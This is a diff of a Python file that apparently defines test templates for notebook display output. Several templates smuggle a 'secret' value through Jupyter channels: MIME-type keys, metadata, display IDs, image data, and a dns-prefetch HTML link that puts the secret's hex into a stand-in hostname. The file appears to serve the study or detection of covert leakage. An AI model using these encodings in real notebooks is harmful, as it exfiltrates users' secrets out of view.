@@ -11,7 +11,8 @@ SHOW_PNG = "out = io.BytesIO(); p.save(out, 'PNG', pnginfo=info); display(Image(
 SAID: dict[int, tuple[str | Ask | tuple[str | Ask, ...], ...]] = {
     1: ("print($E)", "person.head(20)", "person.to_csv(sys.stdout)"),
     2: ("print($E)", "$E", "publish_display_data({'text/plain': $E})"),
-    3: ("print('n = %d, mean %.1f' % (4000 + int(secret[0]), 60 + secret[1] / 10))", "pd.Series({'n': int(secret[2]), 'mean': secret[3] / 7})"),
+    3: ("print('n = %d, mean %.1f' % (4000 + int(secret[0]), 60 + secret[1] / 10))", "pd.Series({'n': int(secret[2]), "
+                                                                                     "'mean': secret[3] / 7})"),
     4: (
         "class R_$K:\n    def __repr__(self):\n        return $E\nR_$K()",
         "class R_$K:\n    def _repr_html_(self):\n        return '<b>' + $E + '</b>'\nR_$K()",
@@ -63,7 +64,8 @@ SAID: dict[int, tuple[str | Ask | tuple[str | Ask, ...], ...]] = {
         "HTML('<link rel=\"dns-prefetch\" href=\"//' + secret.hex()[:40] + '.invalid\"><form action=\"//x.invalid\"></form>')",
     ),
     16: ("publish_display_data({'text/plain': 'x', 'text/html': 'x', 'text/latex': $E, 'image/png': base64.b64encode(secret).decode()})",),
-    17: ("publish_display_data({'x/' + secret.hex(): 1, 'text/plain': 'x'})", "publish_display_data({f'x/{i}': 1 for i, b in enumerate(bits) if b})"),
+    17: ("publish_display_data({'x/' + secret.hex(): 1, 'text/plain': 'x'})", "publish_display_data({f'x/{i}': 1 for i, "
+                                                                              "b in enumerate(bits) if b})"),
     18: ("publish_display_data({'text/plain': 'x'}, metadata={'k': $E})", "display('x', metadata={secret.hex(): {'isolated': bool($A)}})"),
     19: (
         "display('x', display_id=secret.hex())",
